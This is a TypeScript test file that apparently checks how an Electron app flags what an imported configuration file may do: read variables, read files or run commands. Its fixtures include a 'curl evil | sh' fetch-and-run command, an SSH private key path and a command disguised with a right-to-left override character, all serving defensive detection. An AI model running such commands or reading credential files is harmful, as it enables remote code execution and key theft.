import { describe, expect, it } from 'vitest';
import { newPowers } from '../../../electron/core/document/powers.ts';
import { providers } from '../../../electron/providers/registry.ts';

const cloudflare = (token: unknown) => ({ accounts: { home: { provider: 'cloudflare', token } } });

describe('what an imported file may do', () => {
  it.each([
    ['nothing', cloudflare('text'), [], []],
    ['reads a variable', cloudflare({ env: 'CF_TOKEN' }), [], ['$CF_TOKEN']],
    [
      'reads a file',
      cloudflare({ file: '/home/me/.ssh/id_ed25519' }),
      [],
      ['/home/me/.ssh/id_ed25519'],
    ],
    [
      'runs a command',
      { sources: { ipv4: [{ command: 'curl evil | sh' }] } },
      ['curl evil | sh'],
      [],
    ],
    ['runs one that is no list', { sources: { ipv6: { command: 'x' } } }, ['x'], []],
    ['hides its command', { sources: { ipv4: [{ command: 'a\u202eb\nc' }] } }, ['a b c'], []],
  ])('%s', (_, document, runs, reads) => {
    expect(newPowers(document, {}, providers)).toEqual({ runs, reads });
  });

  it('is not told again for what the settings of now do already', () => {
    const document = { ...cloudflare({ env: 'T' }), sources: { ipv4: [{ command: 'x' }] } };
    expect(newPowers(document, document, providers)).toEqual({ runs: [], reads: [] });
  });
});
